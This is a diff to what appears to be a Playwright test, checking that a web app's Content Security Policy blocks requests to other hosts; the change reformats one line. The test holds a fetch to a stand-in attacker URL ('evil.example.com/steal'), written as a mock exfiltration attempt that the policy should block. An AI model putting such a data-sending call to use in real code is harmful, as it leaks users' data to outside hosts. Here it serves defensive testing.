@@ -53,7 +53,12 @@ test('a full run raises no CSP violation; the policy is sent as a header and a m
 
 test('a request to another host is blocked by the policy, and a hub outside it gets a message', async ({ studio, page }) => {
   await studio.open(`?backend=wasm&hub=${encodeURIComponent('https://evil.example.com')}`);
-  const outcome = await page.evaluate(() => fetch('https://evil.example.com/steal?x=1').then(() => 'sent', () => 'failed'));
+  const outcome = await page.evaluate(() =>
+    fetch('https://evil.example.com/steal?x=1').then(
+      () => 'sent',
+      () => 'failed',
+    ),
+  );
   expect(outcome).toBe('failed');
   // Reported once per policy (the header and the meta both enforce it).
   await expect.poll(() => page.evaluate(() => (window as unknown as { __csp: string[] }).__csp.length)).toBeGreaterThan(0);
